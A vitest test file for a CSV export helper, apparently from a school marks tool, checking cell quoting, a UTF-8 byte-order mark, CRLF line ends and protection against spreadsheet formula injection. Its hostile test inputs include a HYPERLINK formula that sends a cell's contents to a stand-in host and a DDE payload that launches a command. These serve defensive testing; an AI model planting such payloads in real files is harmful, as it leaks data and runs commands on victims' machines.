import { describe, expect, it } from 'vitest';
import { csvCell, csvFile } from './csv';

describe('CSV cells', () => {
  it('quotes every cell and doubles its quotes', () => {
    expect(csvCell('Maya "the lighthouse" P.')).toBe('"Maya ""the lighthouse"" P."');
    expect(csvCell('a,b\r\nc')).toBe('"a,b\r\nc"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(17)).toBe('"17"');
  });

  it('writes a cell a spreadsheet would run as a formula as text', () => {
    for (const hostile of [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
      '   =1+1',
      '\uFF1D1+1',
    ]) {
      expect(csvCell(hostile)).toBe(`"'${hostile.replaceAll('"', '""')}"`);
    }
    // A number the server wrote is a number, and ordinary text is left as it is.
    expect(csvCell(-3)).toBe('"-3"');
    expect(csvCell('17/20')).toBe('"17/20"');
    expect(csvCell('B+')).toBe('"B+"');
  });

  it('makes a UTF-8 file with a byte-order mark and CRLF line ends', () => {
    const file = csvFile([
      ['Pupil', 'Mark'],
      ['Zoë Łukasz', 'A*'],
    ]);
    expect(file.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(file.toString('utf8')).toBe('\uFEFF"Pupil","Mark"\r\n"Zoë Łukasz","A*"\r\n');
  });
});
